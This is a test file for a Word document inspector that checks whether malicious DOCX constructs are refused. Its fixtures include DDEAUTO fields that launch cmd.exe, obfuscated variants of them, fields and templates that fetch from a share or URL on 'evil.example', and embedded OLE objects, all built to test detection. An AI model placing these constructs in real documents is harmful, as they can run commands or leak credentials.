import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { strToU8 } from 'fflate'
import { expect, onTestFinished, test } from 'vitest'
import { anOleFile, aZip, docxParts } from '../../../../test/manuscripts.ts'
import { inspectDocx } from './inspect-docx.ts'

/** What is found in a document that was made here, and so may be read here. */
async function findingOf(bytes: Uint8Array) {
  const folder = await mkdtemp(path.join(os.tmpdir(), 'panai-test-docx-'))
  onTestFinished(() => rm(folder, { recursive: true }))
  await writeFile(path.join(folder, 'file'), bytes)
  return inspectDocx(path.join(folder, 'file'))
}

const relation = (type: string, target: string, mode = 'External') =>
  `<Relationships xmlns="x"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const run = (content: string) => `<w:r>${content}</w:r>`
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`)
/** A field whose code is written in these runs, with its result. */
const field = (...code: string[]) =>
  `${mark('begin')}${code.map((part) => (part.startsWith('<') ? part : run(`<w:instrText>${part}</w:instrText>`))).join('')}${mark('separate')}${run('<w:t>1</w:t>')}${mark('end')}`
const body = (content: string, root = 'document') =>
  `<?xml version="1.0" encoding="UTF-8"?><w:${root} ${W}><w:body><w:p>${content}</w:p></w:body></w:${root}>`
const withText = (content: string) => aZip({ ...docxParts(), 'word/document.xml': strToU8(body(content)) })
const withParts = (parts: Record<string, string | Uint8Array>) =>
  aZip({
    ...docxParts(),
    ...Object.fromEntries(
      Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part]),
    ),
  })
const internal = (type: string, target: string) => relation(type, target, 'Internal')
/** The list of contents with more in it. */
const listed = (more: string) =>
  Buffer.from(docxParts()['[Content_Types].xml'] ?? [])
    .toString()
    .replace('</Types>', `${more}</Types>`)

const fetching: Record<string, () => Uint8Array> = {
  'a field that starts a program': () =>
    withText(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
  'a field that asks a program': () => withText(field('dde excel book')),
  'its name in pieces': () => withText(field('D', 'DE', 'AU', 'TO c:\\\\cmd.exe')),
  'its name in pieces, each on a line': () =>
    withText(field('D', 'DE', ' cmd').replaceAll('</w:r>', '</w:r>\n  ')),
  'its name in pieces with blanks that are left out': () => withText(field('DD ', ' EAUTO', ' cmd')),
  'its name in quotation marks': () => withText(field('"DDEAUTO" cmd')),
  'its name behind the number of a letter': () => withText(field('&#68;DEAUTO cmd')),
  'its name as CDATA': () => withText(field(run('<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>'))),
  'a name that another field makes': () => withText(field(field('QUOTE 68 68 69'), ' cmd')),
  'half a name that another field makes': () => withText(field('DD', field('QUOTE 69'), ' cmd')),
  'one in another one': () => withText(field('IF ', field('DDEAUTO cmd'), ' = 1')),
  'one in the result of another': () =>
    withText(`${mark('begin')}${mark('separate')}${field('DDEAUTO cmd')}${mark('end')}`),
  'one that does not end': () => withText(`${mark('begin')}${run('<w:instrText>DDEAUTO cmd</w:instrText>')}`),
  'a simple field': () => withText('<w:fldSimple w:instr=" DDEAUTO cmd "/>'),
  'another prefix': () => withText('<x:fldSimple xmlns:x="y" x:instr="DDE cmd"/>'),
  'a field in a header': () => withParts({ 'word/header1.xml': body(field('DDEAUTO cmd'), 'hdr') }),
  'a field in a part of any name': () => withParts({ 'customXml/x.bin': body(field('DDEAUTO cmd'), 'ftr') }),
  'a field in UTF-16': () =>
    withParts({
      'word/header1.xml': Buffer.from(
        `\ufeff${body(field('DDEAUTO cmd'), 'hdr').replace('UTF-8', 'UTF-16')}`,
        'utf16le',
      ),
    }),
  'a text of another file': () => withText(field(' INCLUDETEXT "chapter-2.docx" ')),
  'a linked object': () => withText(field('LINK Excel.Sheet.12 "book.xlsx" "Sheet1!R1C1" \\a')),
  'a table of a database': () => withText(field('DATABASE \\d "x.mdb"')),
  'a picture of a share by a field': () =>
    withText(field('INCLUDEPICTURE "\\\\\\\\evil.example\\\\share\\\\a.png" \\d')),
  'a link to a share by a field': () => withText(field('HYPERLINK "file://evil.example/share"')),
}

test.each(Object.entries(fetching))('%s is refused as a field that fetches something', async (_, make) => {
  expect(await findingOf(make())).toEqual({ problem: 'fields' })
})

const chart = 'application/vnd.openxmlformats-officedocument.drawingml.chart+xml'
const behindChart = {
  '[Content_Types].xml': listed(
    `<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/><Override PartName="/word/charts/chart1.xml" ContentType="${chart}"/>`,
  ),
  'word/charts/chart1.xml': '<c:chartSpace xmlns:c="x"/>',
  'word/charts/_rels/chart1.xml.rels': internal('package', '../embeddings/Sheet1.xlsx'),
  'word/embeddings/Sheet1.xlsx': aZip({ 'xl/workbook.xml': strToU8('<workbook/>') }),
}
const compound = anOleFile({ '/\u0001Ole10Native': Buffer.alloc(5_000) })

const carrying: Record<string, [string, () => Uint8Array]> = {
  'another file that is unpacked into it': [
    'inserted',
    () =>
      withParts({ 'word/_rels/document.xml.rels': internal('aFChunk', 'a.html'), 'word/a.html': '<html>' }),
  ],
  'a place for one': ['inserted', () => withText('<w:altChunk r:id="x"/>')],
  'an object of another program': [
    'objects',
    () => withParts({ 'word/_rels/document.xml.rels': internal('oleObject', 'embeddings/oleObject1.bin') }),
  ],
  'an object that nothing names': [
    'objects',
    () => withParts({ 'word/embeddings/oleObject1.bin': compound }),
  ],
  'an object by the name of a picture': ['objects', () => withParts({ 'word/media/image1.png': compound })],
  'a whole file': [
    'objects',
    () => withParts({ 'word/_rels/document.xml.rels': internal('package', 'embeddings/a.docx') }),
  ],
  'a whole file behind a chart that is none': [
    'objects',
    () => withParts({ ...behindChart, '[Content_Types].xml': docxParts()['[Content_Types].xml'] ?? '' }),
  ],
}

test.each(Object.entries(carrying))('a document that carries %s is refused', async (_, [problem, make]) => {
  expect(await findingOf(make())).toEqual({ problem })
})

const hidden: Record<string, () => Uint8Array> = {
  'a template behind a mark in quotation marks': () =>
    withParts({
      'word/_rels/document.xml.rels': relation('attachedTemplate', 'http://evil.example/a.dotm').replace(
        ' Id=',
        ' x=">" Id=',
      ),
    }),
  'a template in UTF-16': () =>
    withParts({
      'word/_rels/document.xml.rels': Buffer.from(
        `\ufeff${relation('attachedTemplate', 'http://evil.example/a.dotm')}`,
        'utf16le',
      ),
    }),
}

test.each(Object.entries(hidden))('%s is found', async (_, make) => {
  expect(await findingOf(make())).toEqual({ problem: 'active' })
})

const harmless: Record<string, () => Uint8Array> = {
  'a document with the usual fields': () =>
    withText(
      [
        field('PAGE \\* MERGEFORMAT'),
        field('TOC \\o "1-3" \\h \\z \\u', field('HYPERLINK \\l "_Toc1"')),
        field('HYPERLINK "https://books.example/"'),
        field('HYPERLINK "C:\\\\books\\\\a.docx"'),
        field('IF ', field('PAGE'), ' = 1 "first" ""'),
        field('=', field('PAGE'), '+1'),
        field('INCLUDEPICTURE "https://books.example/a.png" \\* MERGEFORMATINET'),
        field('MACROBUTTON NoMacro [name]'),
        '<w:fldSimple w:instr=" PAGE "/>',
        run('<w:t>DDEAUTO cmd is a field of Word</w:t>'),
      ].join(''),
    ),
  'a document with a chart and the table behind it': () => withParts(behindChart),
  'a document with its letters': () =>
    withParts({
      'word/fonts/font1.odttf': Buffer.alloc(2_000, 0x5a),
      'word/_rels/fontTable.xml.rels': internal('font', 'fonts/font1.odttf'),
    }),
  'a document with a drawing and with what another program keeps': () =>
    withParts({
      'word/media/image1.svg': '<!DOCTYPE svg PUBLIC "x" "y"><svg>&nbsp;</svg>',
      'customXml/item1.xml': '<?xml version="1.0" encoding="utf-16"?><b:Sources xmlns:b="x"></b:Sources',
    }),
}

test.each(Object.entries(harmless))('%s is a manuscript', async (_, make) => {
  expect(await findingOf(make())).toMatchObject({ kind: 'docx' })
})

const unreadable: Record<string, () => Uint8Array> = {
  'a document whose text is no XML': () => withText('<w:r>'),
  'a document with a document type': () =>
    withParts({ 'word/document.xml': `<!DOCTYPE w:document>${body('').replace(/<\?.*?\?>/, '')}` }),
  'a document in a code that nobody uses': () =>
    withParts({ 'word/document.xml': body('').replace('UTF-8', 'UTF-7') }),
}

test.each(Object.entries(unreadable))('%s is not opened', async (_, make) => {
  await expect(findingOf(make())).rejects.toThrow()
})
